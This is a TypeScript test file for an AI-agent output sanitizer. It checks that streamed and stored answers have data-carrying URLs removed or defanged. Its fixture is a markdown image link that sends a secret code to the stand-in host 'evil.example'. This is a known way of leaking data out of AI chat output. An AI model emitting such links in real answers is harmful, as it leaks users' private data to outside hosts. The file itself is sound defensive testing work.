import { MockMemory } from '@mastra/core/memory';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sanitizedParts } from '../src/output.ts';
import { ASK, start, THREAD, World } from './world.ts';

const IMAGE = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const SHOWN = expect.stringMatching(/^Your code is 4711\. (?!.*d=4711).*evil\[\.\]example.* That is all\.$/s);

let world: World;
beforeEach(async () => {
  world = await new World().open({ text: IMAGE });
});
afterEach(() => world.close());

describe('an answer loses addresses that could carry data', () => {
  it('as a whole, and in memory', async () => {
    const memory = new MockMemory({ storage: world.storage });
    const { text } = await world.protect({ config: { memory } }).generate(ASK, THREAD);
    expect(text).toEqual(SHOWN);
    const stored = JSON.stringify((await memory.recall({ threadId: 't', resourceId: 'ann' })).messages);
    expect([stored.includes('d=4711'), stored.includes('evil[.]example')]).toEqual([false, true]);
  });

  it('in a stream, which still arrives in pieces', async () => {
    const output = await world.protect().stream(ASK, THREAD);
    const pieces: string[] = [];
    for await (const piece of output.textStream) pieces.push(piece);
    expect(pieces.join('')).toEqual(SHOWN);
    expect(pieces.length).toBeGreaterThan(3);
    expect(await output.text).toBe(pieces.join(''));
  });

  it('not with rawOutput', async () => {
    const { text } = await world.protect({ options: { rawOutput: true } }).generate(ASK, THREAD);
    expect(text).toBe(IMAGE);
  });
});

describe('the parts of a stream', () => {
  const delta = (id: string, text: string) => ({ type: 'text-delta', id, delta: text });
  const run = async (...parts: readonly unknown[]) => {
    const shown: unknown[] = [];
    for await (const part of ReadableStream.from(parts).pipeThrough(sanitizedParts(start()))) shown.push(part);
    return shown;
  };

  it('hold back a word that is not complete, until its text or the stream ends', async () => {
    const end = { type: 'text-end', id: 'a' };
    expect(await run(delta('a', 'Hello wor'), delta('b', 'Two'), delta('a', 'ld'), end)).toEqual([
      delta('a', 'Hello '),
      delta('a', 'world'),
      end,
      delta('b', 'Two'),
    ]);
  });

  it('pass if they are not text', async () => {
    const others = [{ type: 'reasoning-delta', id: 'r', delta: IMAGE }, { type: 'text-end', id: 'x' }, null];
    expect(await run(...others)).toEqual(others);
  });
});
